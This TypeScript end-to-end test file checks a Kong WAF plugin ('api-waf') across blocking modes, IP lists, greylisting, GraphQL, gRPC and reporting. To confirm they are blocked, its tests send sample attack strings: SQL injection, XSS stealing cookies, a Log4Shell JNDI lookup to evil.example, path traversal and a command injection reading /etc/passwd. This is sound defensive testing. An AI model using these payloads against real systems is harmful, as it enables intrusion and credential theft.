/**
 * api-waf end to end: configured ONLY through the Admin API, traffic ONLY through the proxy (and the gRPC
 * listener), the plugin running in the real kong-js-pluginserver. Runs against the local gateway by default,
 * or against real Kong when KONG_ADMIN_URL / KONG_PROXY_URL are set (parts that need the test process to be
 * reachable from Kong, like the failing collector, use E2E_TEST_HOST there).
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import fs from 'node:fs';
import os from 'node:os';
import zlib from 'node:zlib';
import * as grpc from '@grpc/grpc-js';
import * as protoLoader from '@grpc/proto-loader';
import Redis from 'ioredis';
import { startE2eGateway, type E2eGateway } from './harness';

jest.setTimeout(90_000);

let gw: E2eGateway;
const run = Date.now().toString(36);
let serviceId = '';

async function admin(method: string, p: string, body?: unknown): Promise<Record<string, unknown>> {
  const res = await fetch(gw.adminUrl + p, {
    method,
    headers: { 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const json = (await res.json().catch(() => ({}))) as Record<string, unknown>;
  if (res.status >= 300) throw new Error(`${method} ${p}: ${res.status} ${JSON.stringify(json)}`);
  return json;
}

/**
 * A route on the demo service with api-waf configured as given; returns the route's proxy prefix.
 * Automatic greylisting is off unless a test configures it: the greylist is node-wide (every instance in
 * the pluginserver shares it), and all test traffic comes from 127.0.0.1, so one test's attacks would
 * otherwise greylist the client for the next.
 */
async function routeWithWaf(name: string, config: Record<string, unknown>): Promise<string> {
  const prefix = `/${name}-${run}`;
  const route = await admin('POST', `/services/${serviceId}/routes`, { name: `${name}-${run}`, paths: [prefix] });
  await admin('POST', `/routes/${route.id}/plugins`, { name: 'api-waf', config: { greylisting: { enabled: false }, ...config } });
  return prefix;
}

const SQLI = "id=1'%20OR%20'1'='1";

beforeAll(async () => {
  gw = await startE2eGateway();
  const service = await admin('POST', '/services', { name: `waf-demo-${run}`, url: gw.upstreamUrl });
  serviceId = service.id as string;
});

afterAll(async () => {
  await gw?.stop();
});

describe('modes', () => {
  let blockPrefix = '';
  let monitorPrefix = '';
  beforeAll(async () => {
    blockPrefix = await routeWithWaf('block', { mode: 'block' });
    monitorPrefix = await routeWithWaf('monitor', { mode: 'monitoring' });
  });

  test('a benign request reaches the upstream', async () => {
    const res = await fetch(`${gw.proxyUrl}${blockPrefix}/users/1?id=42&sort=name`);
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ id: 1 });
  });

  test('block: an attack gets 403 with a JSON body and the request id', async () => {
    const res = await fetch(`${gw.proxyUrl}${blockPrefix}/users/1?${SQLI}`, { headers: { 'x-request-id': `req-${run}` } });
    expect(res.status).toBe(403);
    expect(res.headers.get('x-request-id')).toBe(`req-${run}`);
    expect(await res.json()).toEqual({ message: 'Request blocked by api-waf', request_id: `req-${run}` });
  });

  test('block: attacks in a JSON body, a header and a path segment are blocked too', async () => {
    const json = await fetch(`${gw.proxyUrl}${blockPrefix}/orders`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ order: { note: '<img src=x onerror=alert(document.cookie)>' } }),
    });
    expect(json.status).toBe(403);
    const header = await fetch(`${gw.proxyUrl}${blockPrefix}/users/1`, { headers: { 'x-forwarded-host': '${jndi:ldap://evil.example/a}' } });
    expect(header.status).toBe(403);
    const pathSeg = await fetch(`${gw.proxyUrl}${blockPrefix}/files/..%2f..%2f..%2fetc%2fpasswd`);
    expect(pathSeg.status).toBe(403);
  });

  test('block: an attack in a UTF-16 JSON body is read in its charset and blocked; a benign one is not', async () => {
    const utf16 = (v: unknown): Buffer => Buffer.from(JSON.stringify(v), 'utf16le');
    const attack = await fetch(`${gw.proxyUrl}${blockPrefix}/orders`, {
      method: 'POST',
      headers: { 'content-type': 'application/json; charset=utf-16le' },
      body: utf16({ q: "1' union select password from users--" }),
    });
    expect(attack.status).toBe(403);
    // no content type at all: recognised by its zero bytes, as Jackson does
    const bare = await fetch(`${gw.proxyUrl}${blockPrefix}/orders`, { method: 'POST', body: utf16({ cmd: ';cat /etc/passwd' }) });
    expect(bare.status).toBe(403);
    const benign = await fetch(`${gw.proxyUrl}${blockPrefix}/orders`, {
      method: 'POST',
      headers: { 'content-type': 'application/json; charset=utf-16le' },
      body: utf16({ note: 'deliver after 5 pm, ring twice' }),
    });
    // it reaches the upstream (the demo upstream itself only reads UTF-8 JSON and answers 400)
    expect(benign.status).not.toBe(403);
    expect(await benign.text()).not.toContain('Request blocked by api-waf');
  });

  test('monitoring: the same attack passes to the upstream', async () => {
    const res = await fetch(`${gw.proxyUrl}${monitorPrefix}/users/1?${SQLI}`);
    expect(res.status).toBe(200);
  });

  test('few PDK round trips: 4 for a GET, 5 with a body (emulator counts them)', async () => {
    if (!gw.local) return;
    const get = await fetch(`${gw.proxyUrl}${monitorPrefix}/users/1?a=1`);
    const post = await fetch(`${gw.proxyUrl}${monitorPrefix}/orders`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"item":"book"}' });
    const calls = (res: Response): number => {
      const summary = res.headers.get('x-kong-emu-rpc') ?? '';
      const m = /api-waf=(\d+)\/(\d+)/.exec(summary);
      if (!m) throw new Error(`no api-waf entry in X-Kong-Emu-Rpc: "${summary}"`);
      return Number(m[2]);
    };
    expect(calls(get)).toBe(4);
    expect(calls(post)).toBe(5);
  });
});

describe('IP lists', () => {
  test('denylisted IPs are refused in every mode but off, even benign requests', async () => {
    const mon = await routeWithWaf('deny-mon', { mode: 'monitoring', ip_lists: { deny: ['127.0.0.0/8', '::1'] } });
    const off = await routeWithWaf('deny-off', { mode: 'off', ip_lists: { deny: ['127.0.0.0/8', '::1'] } });
    expect((await fetch(`${gw.proxyUrl}${mon}/users/1`)).status).toBe(403);
    expect((await fetch(`${gw.proxyUrl}${off}/users/1`)).status).toBe(200);
  });

  test('allowlisted IPs are never blocked, even when also denylisted', async () => {
    const p = await routeWithWaf('allow', { mode: 'block', ip_lists: { allow: ['127.0.0.1', '::1'], deny: ['127.0.0.0/8'] } });
    expect((await fetch(`${gw.proxyUrl}${p}/users/1?${SQLI}`)).status).toBe(200);
  });

  test('safe_blocking blocks attacks only from greylisted IPs; benign requests from them pass', async () => {
    const plain = await routeWithWaf('safe', { mode: 'safe_blocking', greylisting: { enabled: false } });
    const grey = await routeWithWaf('safe-grey', { mode: 'safe_blocking', ip_lists: { grey: ['127.0.0.0/8', '::1'] } });
    expect((await fetch(`${gw.proxyUrl}${plain}/users/1?${SQLI}`)).status).toBe(200);
    expect((await fetch(`${gw.proxyUrl}${grey}/users/1?${SQLI}`)).status).toBe(403);
    expect((await fetch(`${gw.proxyUrl}${grey}/users/1?id=7`)).status).toBe(200);
  });
});

describe('automatic greylisting', () => {
  const attacks = ["1' OR '1'='1", '<script>alert(1)</script>', '../../../../etc/passwd', "1; DROP TABLE users--"];

  test('redis: the greylist is shared through Redis between routes (and so between nodes)', async () => {
    const prefix = `kas-e2e-${run}`;
    const redisConf = { host: process.env.E2E_REDIS_HOST ?? '127.0.0.1', port: 6379, prefix };
    const counting = await routeWithWaf('grey-redis-a', { mode: 'monitoring', greylisting: { threshold: 1, window_s: 60, duration_s: 120, policy: 'redis', redis: redisConf } });
    const other = await routeWithWaf('grey-redis-b', { mode: 'safe_blocking', greylisting: { threshold: 1000, policy: 'redis', redis: redisConf } });
    // the first requests of a new Redis connection are answered by the local fallback while it connects
    await new Promise((r) => setTimeout(r, 300));
    expect((await fetch(`${gw.proxyUrl}${other}/users/1?q=${encodeURIComponent(attacks[0])}`)).status).toBe(200);
    for (const a of attacks.slice(0, 2)) expect((await fetch(`${gw.proxyUrl}${counting}/users/1?q=${encodeURIComponent(a)}`)).status).toBe(200);
    if (!gw.local) {
      // real Kong: Redis lives inside the compose network; the blocking on the other route is the proof
      await new Promise((r) => setTimeout(r, 500));
      expect((await fetch(`${gw.proxyUrl}${other}/users/1?q=${encodeURIComponent(attacks[3])}`)).status).toBe(403);
      return;
    }
    const redis = new Redis({ host: '127.0.0.1', port: 6379, lazyConnect: true });
    try {
      await redis.connect();
      // the greylisting is written in the background after the response; wait for it
      let keys: string[] = [];
      for (let i = 0; i < 50 && keys.length === 0; i++) {
        keys = await redis.keys(`${prefix}:ban:grey:*`);
        if (keys.length === 0) await new Promise((r) => setTimeout(r, 100));
      }
      expect(keys.length).toBe(1);
      expect((await fetch(`${gw.proxyUrl}${other}/users/1?q=${encodeURIComponent(attacks[3])}`)).status).toBe(403);
      const all = await redis.keys(`${prefix}:*`);
      if (all.length) await redis.del(...all);
    } finally {
      redis.disconnect();
    }
  });

  test('local: more than N distinct malicious payloads greylist the IP (safe_blocking then blocks)', async () => {
    const p = await routeWithWaf('grey-local', { mode: 'safe_blocking', greylisting: { threshold: 2, window_s: 60, duration_s: 60, policy: 'local' } });
    // the same payload repeated counts once
    for (let i = 0; i < 4; i++) expect((await fetch(`${gw.proxyUrl}${p}/users/1?q=${encodeURIComponent(attacks[0])}`)).status).toBe(200);
    expect((await fetch(`${gw.proxyUrl}${p}/users/1?q=${encodeURIComponent(attacks[1])}`)).status).toBe(200);
    // third distinct payload: more than 2 -> greylisted from now on
    expect((await fetch(`${gw.proxyUrl}${p}/users/1?q=${encodeURIComponent(attacks[2])}`)).status).toBe(200);
    expect((await fetch(`${gw.proxyUrl}${p}/users/1?q=${encodeURIComponent(attacks[3])}`)).status).toBe(403);
    expect((await fetch(`${gw.proxyUrl}${p}/users/1?q=hello`)).status).toBe(200);
  });
});

describe('GraphQL policy', () => {
  let p = '';
  beforeAll(async () => {
    p = await routeWithWaf('gql', { mode: 'block', graphql: { paths: [`/gql-${run}/graphql`], max_depth: 3, max_aliases: 2, max_batch: 2, deny_introspection: true } });
  });
  const post = (body: unknown): Promise<Response> =>
    fetch(`${gw.proxyUrl}${p}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

  test('a query within limits passes', async () => {
    const res = await post({ query: 'query($id: ID!) { user(id: $id) { id name } }', variables: { id: '1' } });
    expect(res.status).toBe(200);
  });
  test('too deep, too many aliases, too big a batch, introspection: 403', async () => {
    expect((await post({ query: '{ order(id: "1") { user { orders { user { id } } } } }' })).status).toBe(403);
    expect((await post({ query: '{ a: user(id: "1") { id } b: user(id: "2") { id } c: user(id: "3") { id } }' })).status).toBe(403);
    expect((await post([{ query: '{ users { id } }' }, { query: '{ users { id } }' }, { query: '{ users { id } }' }])).status).toBe(403);
    expect((await post({ query: '{ __schema { types { name } } }' })).status).toBe(403);
  });
  test('an injection in a GraphQL variable is blocked', async () => {
    const res = await post({ query: 'query($id: ID!) { user(id: $id) { id } }', variables: { id: "1' UNION SELECT password FROM users--" } });
    expect(res.status).toBe(403);
  });
});

describe('gRPC', () => {
  test('an injected field in a protobuf message is blocked; a clean one passes', async () => {
    if (!gw.grpcUrl || !gw.upstreamGrpcTarget) return;
    const grpcService = await admin('POST', '/services', { name: `grpc-${run}`, url: `grpc://${gw.upstreamGrpcTarget}` });
    const route = await admin('POST', `/services/${grpcService.id}/routes`, { name: `grpc-${run}`, protocols: ['grpc'], paths: ['/demo.Users/'] });
    await admin('POST', `/routes/${route.id}/plugins`, { name: 'api-waf', config: { mode: 'block' } });
    const def = protoLoader.loadSync(path.resolve(__dirname, '../../gateway/demo-upstream/demo.proto'));
    const pkg = grpc.loadPackageDefinition(def) as unknown as { demo: { Users: grpc.ServiceClientConstructor } };
    const client = new pkg.demo.Users(gw.grpcUrl.replace(/^http:\/\//, ''), grpc.credentials.createInsecure());
    const echo = (message: string): Promise<{ err: grpc.ServiceError | null; reply: unknown }> =>
      new Promise((resolve) => client.Echo({ message }, (err: grpc.ServiceError | null, reply: unknown) => resolve({ err, reply })));
    try {
      const ok = await echo('hello there');
      expect(ok.err).toBeNull();
      const bad = await echo("x' OR 1=1; DROP TABLE users--");
      expect(bad.err?.code).toBe(grpc.status.PERMISSION_DENIED);
    } finally {
      client.close();
      await admin('DELETE', `/routes/${route.id}`);
    }
  });
});

describe('fail mode on an inspection that cannot finish in its budget', () => {
  const huge = JSON.stringify({ items: Array.from({ length: 60000 }, (_, i) => ({ id: i, name: `item ${i} with some text`, tags: ['a', 'b', 'c'] })) });

  test('closed answers 503 with a request id; open lets the request through', async () => {
    const limits = { time_budget_ms: 1, max_body_bytes: 8 * 1024 * 1024, max_points: 100000 };
    const closed = await routeWithWaf('fail-closed', { mode: 'block', fail_mode: 'closed', limits });
    const open = await routeWithWaf('fail-open', { mode: 'block', fail_mode: 'open', limits });
    const send = (p: string): Promise<Response> => fetch(`${gw.proxyUrl}${p}/orders`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: huge });
    const c = await send(closed);
    expect(c.status).toBe(503);
    expect(((await c.json()) as { request_id?: string }).request_id).toBeTruthy();
    const o = await send(open);
    expect(o.status).toBeGreaterThanOrEqual(200);
    expect(o.status).toBeLessThan(300);
  });
});

describe('reporting', () => {
  test('events reach a collector that fails and then recovers, each exactly once (gzip, token)', async () => {
    const received = new Map<string, number>();
    let failing = true;
    let sawGzip = false;
    let sawToken = false;
    const server = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        if (failing) {
          res.writeHead(503).end();
          return;
        }
        sawGzip ||= req.headers['content-encoding'] === 'gzip';
        sawToken ||= req.headers.authorization === 'Bearer e2e-collector-token-0001';
        const raw = Buffer.concat(chunks);
        const body = JSON.parse((req.headers['content-encoding'] === 'gzip' ? zlib.gunzipSync(raw) : raw).toString('utf8')) as { events: Array<{ id: string; request_id: string }> };
        for (const e of body.events) received.set(e.id, (received.get(e.id) ?? 0) + 1);
        res.writeHead(200, { 'content-type': 'application/json' }).end('{"accepted":1}');
      });
    });
    await new Promise<void>((r) => server.listen(0, '0.0.0.0', r));
    const port = (server.address() as AddressInfo).port;
    const host = gw.local ? '127.0.0.1' : process.env.E2E_TEST_HOST ?? 'host.docker.internal';
    const spool = fs.mkdtempSync(path.join(os.tmpdir(), 'waf-spool-'));
    try {
      const p = await routeWithWaf('report', {
        mode: 'block',
        application_id: 'e2e',
        reporting: { collector_url: `http://${host}:${port}`, token: 'e2e-collector-token-0001', flush_interval_ms: 50, batch_size: 2, spool_dir: gw.local ? spool : null },
      });
      const ids: string[] = [];
      for (let i = 0; i < 6; i++) {
        const res = await fetch(`${gw.proxyUrl}${p}/users/1?q=${encodeURIComponent(`' OR ${i}=${i}--`)}`, { headers: { 'x-request-id': `rep-${run}-${i}` } });
        expect(res.status).toBe(403);
        ids.push(`rep-${run}-${i}`);
      }
      await new Promise((r) => setTimeout(r, 700));
      expect(received.size).toBe(0);
      failing = false;
      const deadline = Date.now() + 30_000;
      while (received.size < 6 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
      expect(received.size).toBe(6);
      expect([...received.values()].every((n) => n === 1)).toBe(true);
      expect(sawGzip).toBe(true);
      expect(sawToken).toBe(true);
    } finally {
      server.close();
      fs.rmSync(spool, { recursive: true, force: true });
    }
  });
});

describe('config validation through the Admin API', () => {
  test('a bad mode is a 400 schema violation and changes nothing', async () => {
    const route = await admin('POST', `/services/${serviceId}/routes`, { name: `badcfg-${run}`, paths: [`/badcfg-${run}`] });
    const res = await fetch(`${gw.adminUrl}/routes/${route.id}/plugins`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'api-waf', config: { mode: 'blocc', limits: { max_point_bytes: 1 } } }),
    });
    expect(res.status).toBe(400);
    const body = (await res.json()) as { code: number; name: string; fields: { config: Record<string, unknown> } };
    expect(body.code).toBe(2);
    expect(body.name).toBe('schema violation');
    expect(Object.keys(body.fields.config).sort()).toEqual(['limits', 'mode']);
    const plugins = (await admin('GET', `/routes/${route.id}/plugins`)) as { data: unknown[] };
    expect(plugins.data).toHaveLength(0);
  });
});
